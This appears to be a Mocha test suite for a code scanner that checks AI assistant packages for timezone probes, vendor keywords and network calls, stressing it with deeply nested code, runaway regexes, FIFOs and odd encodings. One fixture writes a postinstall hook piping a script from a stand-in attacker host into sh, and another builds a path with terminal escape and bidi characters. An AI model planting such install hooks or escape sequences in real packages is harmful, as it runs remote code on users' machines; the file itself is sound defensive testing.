// Hostile and odd input: each case once made a scan crash, hang or go quadratic. Mocha's
// timeout is the guard against hangs; the assertions check that the scan still reports.
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { RULES } from '../../src/core/rules';
import { scanSource } from '../../src/core/scan/engine';
import { scanTarget } from '../../src/core/scan/target';
import { safeRegExp } from '../../src/core/js/decode/builtins';
import { nestingDepth } from '../../src/core/js/nesting';
import { MAX_NESTING } from '../../src/core/js/parse';
import { bundleFixture, describeVariant, VARIANTS } from '../helpers/bundlers';

const TZ = 'Intl.DateTimeFormat().resolvedOptions().timeZone';
const scan = (code: string) => scanSource(code, { file: 'h.js', rules: RULES });

describe('hostile input', () => {
  it('follows a 20,000-name assignment chain without exhausting the stack', () => {
    const chain = Array.from({ length: 20000 }, (_, i) => `var a${i + 1}=a${i};`).join('\n');
    const r = scan(`var a0=${TZ};\n${chain}\nif(a20000==="Asia/Shanghai")x();`);
    assert.ok(r.findings.some(f => f.ruleId === 'timezone-probe'));
    assert.deepEqual(r.errors.filter(e => /stack|stopped/.test(e.message)), []);
  });

  it('keeps every rule after a 30,000-link member chain', () => {
    const r = scan(`var x=a${'.b'.repeat(30000)};\nfunction g(){let K=${TZ};return K==="Asia/Shanghai"}`);
    assert.ok(r.findings.some(f => f.ruleId === 'region-gating'), r.errors.map(e => e.message).join('\n'));
  });

  it('refuses regexes from scanned code that would backtrack catastrophically', () => {
    assert.equal(safeRegExp('a*a*a*a*a*a*a*a*a*a*a*a*c', ''), undefined);
    assert.equal(safeRegExp('(a+)+$', ''), undefined);
    assert.ok(safeRegExp('[^a-z0-9]', 'g'));
    assert.ok(safeRegExp('-', 'g'));
    const r = scan(`var k="${'a'.repeat(40)}".replace(/a*a*a*a*a*a*a*a*a*a*a*a*c/,"").split("").reverse().join("");`);
    assert.deepEqual(r.errors, []);
  });

  it('stops calling a decoder helper that ran out of budget', () => {
    const data = Buffer.from('deepseek,qwen,doubao').toString('base64');
    const calls = Array.from({ length: 300 }, () => `d("${data}")`).join(';');
    const r = scan(`function d(q){let s=Buffer.from(q,"base64").toString();while(true)s+="x";return s}\n${calls}`);
    // The literals are still seen as base64 text; the endless helper produced nothing.
    const recipes = new Set(r.findings.flatMap(f => f.evidence.filter(e => e.startsWith('recipe:'))));
    assert.deepEqual([...recipes], ['recipe: base64']);
  });

  it('handles 40,000 chained .reverse() calls, 40,000 unclosed [ in a RegExp source and 40,000 host hits', () => {
    scan(`s${'.reverse()'.repeat(40000)}`);
    scan(`new RegExp("\u0430${'['.repeat(40000)}")`);
    const r = scan(`x===${JSON.stringify('a.deepseek.com '.repeat(40000))}`);
    assert.ok(r.findings.some(f => f.ruleId === 'vendor-keywords'));
  });

  it('reads a package.json that starts with a byte order mark, bin entries included', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-bom-'));
    fs.writeFileSync(path.join(dir, 'package.json'), `\ufeff${JSON.stringify({ name: 'my-agent', version: '1.2.3', bin: { agent: 'bin/agent' } })}`);
    fs.mkdirSync(path.join(dir, 'bin'));
    fs.writeFileSync(path.join(dir, 'bin', 'agent'), `#!/usr/bin/env node\nconsole.log(${TZ})\n`);
    const result = scanTarget({ id: 'x', name: 'x', kind: 'path', root: dir }, { rules: RULES });
    assert.equal(result.filesScanned, 1);
    assert.ok(result.findings.some(f => f.file === 'bin/agent' && f.ruleId === 'timezone-probe'));
  });

  it('escapes control characters in paths printed by the CLI', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-esc-'));
    const evil = path.join(dir, 'x\u001b]0;pwned\u0007\u001b[2J\u202eevil');
    fs.mkdirSync(evil);
    fs.writeFileSync(path.join(evil, 'a.js'), `f(${TZ})\n`);
    const r = spawnSync(process.execPath, [path.resolve('dist/cli.js'), 'scan', evil], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.equal(r.status, 0, r.stderr);
    assert.ok(!/[\u001b\u0007\u202e]/.test(r.stdout), 'no raw control or bidi character on stdout');
  });
});

describe('hostile input: nesting that could crash the parser', () => {
  const CLI = path.resolve('dist/cli.js');
  const forms: Array<[string, (n: number) => string]> = [
    ['IIFEs', n => `${'(function(){'.repeat(n)}x()${'})()'.repeat(n)}`],
    ['template literals', n => `x=\`${'${`'.repeat(n)}a${'`}'.repeat(n)}\``],
    ['arrays', n => `x=${'['.repeat(n)}${']'.repeat(n)}`],
    ['calls', n => `x=${'f('.repeat(n)}1${')'.repeat(n)}`],
    ['parentheses', n => `x=${'('.repeat(n)}1${')'.repeat(n)}`],
    ['blocks of if', n => `${'if(a){'.repeat(n)}b()${'}'.repeat(n)}`],
    ['if without braces', n => `${'if(a)'.repeat(n)}b();`],
    ['else if', n => `if(a){}${'else if(a){}'.repeat(n)}`],
    ['negations', n => `x=${'!'.repeat(n)}a`],
    ['assignments', n => `${'a='.repeat(n)}1`],
    ['conditionals', n => `x=${'a?1:'.repeat(n)}1`],
    ['new', n => `x=${'new '.repeat(n)}A`],
  ];
  for (const [name, make] of forms) {
    for (const n of [300, 3000, 100_000]) {
      it(`${n} nested ${name}: the process survives, the file is an error entry, its strings and the next file are still reported`, function () {
        this.timeout(60_000);
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-nest-'));
        try {
          fs.writeFileSync(path.join(dir, 'deep.js'), `${make(n)};\nfetch("http://203.0.113.9/deep")`);
          fs.writeFileSync(path.join(dir, 'next.js'), `const z=${TZ};`);
          const r = spawnSync(process.execPath, [CLI, 'scan', dir, '--json'], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
          assert.equal(r.status, 0, r.stderr.slice(-500));
          const target = JSON.parse(r.stdout).targets[0];
          assert.ok(target.findings.some((f: { ruleId: string; file: string }) => f.ruleId === 'timezone-probe' && f.file === 'next.js'));
          const deep = target.findings.filter((f: { file: string }) => f.file === 'deep.js');
          const error = target.errors.find((e: { file: string }) => e.file === 'deep.js');
          // Either parsed (the call is then found in the code) or an error entry with the URL from its strings.
          if (error) {
            assert.match(error.message, /not parsed/);
            assert.ok(deep.some((f: { ruleId: string; message: string }) => f.ruleId === 'network-endpoint' && /203\.0\.113\.9/.test(f.message)), JSON.stringify(deep));
          } else {
            assert.ok(deep.some((f: { ruleId: string }) => f.ruleId === 'network-endpoint'), JSON.stringify(deep));
          }
        } finally {
          fs.rmSync(dir, { recursive: true, force: true });
        }
      });
    }
  }
});

describe('nesting depth, counted before parsing', () => {
  it('skips brackets in strings, comments, regular expressions and template text, and counts ${…}', () => {
    assert.equal(nestingDepth('a=/[(]/;b=x/2/(3);c=`${`${1}`}`;d="((";//((\n/*((*/e=[1]', 100).depth, 2);
    assert.equal(nestingDepth("f('(((',`[[[`,/\\(/g)", 100).depth, 1);
  });
  it('stops as soon as the limit is passed and says where', () => {
    const r = nestingDepth(`x=${'['.repeat(1_000_000)}`, 250);
    assert.deepEqual(r, { depth: 251, at: 252 });
  });
  it('real esbuild, webpack and rollup output nests far less deeply than the limit', async function () {
    this.timeout(120_000);
    for (const name of fs.readdirSync('test/fixtures/bundler-src')) {
      for (const variant of VARIANTS) {
        const text = await bundleFixture(name, variant);
        assert.ok(nestingDepth(text, MAX_NESTING).depth < MAX_NESTING / 4, `${name} ${describeVariant(variant)}`);
      }
    }
  });
});

describe('hostile input: files that are not regular files', function () {
  if (process.platform === 'win32') return;
  const CLI = path.resolve('dist/cli.js');
  const run = (args: string[], env: NodeJS.ProcessEnv = process.env) => spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', timeout: 30_000, env: { ...env, NO_COLOR: '1' } });
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-fifo-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
  const mkfifo = (p: string) => assert.equal(spawnSync('mkfifo', [p]).status, 0, 'mkfifo');

  it('a FIFO, a link to a device and a link to a folder inside a package are error entries, never opened; the rest is scanned', () => {
    const pkg = path.join(dir, 'pkg');
    fs.mkdirSync(path.join(pkg, 'sub'), { recursive: true });
    mkfifo(path.join(pkg, 'pipe.js'));
    fs.symlinkSync('/dev/zero', path.join(pkg, 'zero.js'));
    fs.symlinkSync(path.join(pkg, 'sub'), path.join(pkg, 'loop'));
    fs.writeFileSync(path.join(pkg, 'ok.js'), `const z=${TZ};`);
    const r = run(['scan', pkg, '--json']);
    assert.equal(r.status, 0, r.stderr);
    const t = JSON.parse(r.stdout).targets[0];
    assert.ok(t.findings.some((f: { file: string }) => f.file === 'ok.js'));
    const messages = Object.fromEntries(t.errors.map((e: { file: string; message: string }) => [e.file, e.message]));
    assert.match(messages['pipe.js'], /FIFO: skipped, never opened/);
    assert.match(messages['zero.js'], /character device: skipped, never opened/);
    assert.match(messages['loop'], /symbolic link to a folder: not followed/);
  });

  it('a FIFO given as the PATH to scan says what it is', () => {
    mkfifo(path.join(dir, 'p'));
    const r = run(['scan', path.join(dir, 'p'), '--json']);
    assert.equal(r.status, 0, r.stderr);
    const errors = JSON.parse(r.stdout).targets[0].errors;
    assert.deepEqual(errors.map((e: { message: string }) => e.message), ['a FIFO, not a file or folder: not opened']);
  });

  it('a launcher on PATH that is a FIFO does not hang list or scan; scan shows the problem and --strict fails on it', () => {
    fs.mkdirSync(path.join(dir, 'bin'));
    mkfifo(path.join(dir, 'bin', 'claude'));
    const env = { ...process.env, HOME: dir, PATH: `${path.join(dir, 'bin')}:/usr/bin:/bin` };
    const list = run(['list'], env);
    assert.equal(list.status, 0, list.stderr);
    assert.match(list.stdout, /launcher is a FIFO: not opened/);
    const scan = run(['scan'], env);
    assert.equal(scan.status, 0, scan.stderr);
    assert.match(scan.stderr, /problems? while looking for assistants:[^]*launcher is a FIFO/);
    assert.equal(run(['scan', '--strict'], env).status, 1);
    const json = JSON.parse(run(['scan', '--json'], env).stdout);
    assert.match(json.discoveryErrors[0].message, /FIFO/);
  });

  it("a package whose bin is a FIFO is scanned without opening it", () => {
    const pkg = path.join(dir, 'agent');
    fs.mkdirSync(pkg);
    fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'agent', bin: { agent: 'cli' } }));
    mkfifo(path.join(pkg, 'cli'));
    fs.writeFileSync(path.join(pkg, 'index.js'), `const z=${TZ};`);
    const r = run(['scan', pkg, '--json']);
    assert.equal(r.status, 0, r.stderr);
    const t = JSON.parse(r.stdout).targets[0];
    assert.ok(t.findings.some((f: { file: string }) => f.file === 'index.js'));
    assert.ok(t.errors.some((e: { file: string; message: string }) => e.file === 'cli' && /FIFO/.test(e.message)), JSON.stringify(t.errors));
  });
});

describe('hostile input: encodings', () => {
  it('reads UTF-16 files by their byte order mark (little and big endian), at the right columns', () => {
    const code = `let a=1;\nconst z=${TZ};`;
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(code, 'utf16le')]);
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(code, 'utf16le').swap16()]);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-utf16-'));
    try {
      fs.writeFileSync(path.join(dir, 'le.js'), le);
      fs.writeFileSync(path.join(dir, 'be.js'), be);
      const r = scanTarget({ id: 'x', name: 'x', kind: 'path', root: dir }, { rules: RULES });
      const probes = r.findings.filter(f => f.ruleId === 'timezone-probe');
      assert.deepEqual(probes.map(f => [f.file, f.line, f.column]), [['be.js', 2, 9], ['le.js', 2, 9]]);
      assert.deepEqual(r.errors, []);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('hostile input: a package.json nested deep', () => {
  for (const depth of [1_000, 200_000]) {
    it(`${depth} deep (valid JSON, npm accepts it): its curl | sh install script is still high, with an error entry for the positions`, () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-deepjson-'));
      try {
        const junk = `${'['.repeat(depth)}${']'.repeat(depth)}`;
        fs.writeFileSync(path.join(dir, 'package.json'), `{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s https://evil.example.net/i.sh | sh"},"junk":${junk}}`);
        const r = scanTarget({ id: 'x', name: 'x', kind: 'path', root: dir }, { rules: RULES });
        const script = r.findings.find(f => f.ruleId === 'install-script');
        assert.equal(script?.severity, 'high');
        assert.ok(r.errors.every(e => /positions in package\.json are not available/.test(e.message)), JSON.stringify(r.errors));
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });
  }
});
